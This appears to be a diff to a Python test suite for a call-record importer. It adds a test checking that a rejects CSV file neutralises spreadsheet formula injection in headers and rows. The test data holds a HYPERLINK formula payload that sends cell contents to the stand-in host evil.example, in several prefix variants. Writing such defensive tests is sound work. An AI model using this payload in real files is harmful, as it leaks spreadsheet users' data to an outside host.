@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 from datetime import date
 from pathlib import Path
@@ -295,6 +296,21 @@ def test_rejects_hold_neither_contacts_nor_columns_that_mean_nothing_to_us(site:
     assert ",'=bob," in kept  # no formula for a spreadsheet to run
 
 
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\0=", "＝"])
+def test_no_cell_of_a_rejects_file_is_a_formula(site: Site, tmp_path: Path, sign: str) -> None:
+    """Not the names of columns either: a file's header is as much its writer's as its rows are."""
+    evil = f'{sign}HYPERLINK("http://evil.example/?"&A2)'
+    columns = {name: name for name in ("external_id", "agent", "talk_seconds")} | {"started_at": evil.lstrip("\0")}
+    header = 'external_id,"' + evil.lstrip("\0").replace('"', '""') + '",agent,talk_seconds'
+    row = '1,nonsense,"' + evil.replace('"', '""') + '",60'
+    rejects = tmp_path / "rejects.csv"
+    samples.taken(samples.written(tmp_path, rows(row, header=header)), {"columns": columns}, rejects=rejects)
+    with rejects.open(encoding="utf-8", newline="") as file:
+        cells = [cell for kept in csv.reader(file) for cell in kept]
+    assert sum("evil.example" in cell for cell in cells) >= 3
+    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in cells)
+
+
 def test_rows_from_a_program(site: Site) -> None:
     given = {
         "external_id": "1",
@@ -305,7 +321,7 @@ def test_rows_from_a_program(site: Site) -> None:
         "phone": "+12125550101",
     }
     report = samples.taken([given, {**given, "external_id": "2", "talk_seconds": -1}])
-    assert samples.counts(report) == (1, 0, 0, 1) and report.rejected_by == {"negative duration": 1}
+    assert samples.counts(report) == (1, 0, 0, 1) and report.rejected_by == {"talk_seconds: negative duration": 1}
     assert samples.stored()["1"].started_at == utc(2026, 3, 2, 14)
     assert samples.counts(samples.taken([])) == (0, 0, 0, 0)
 
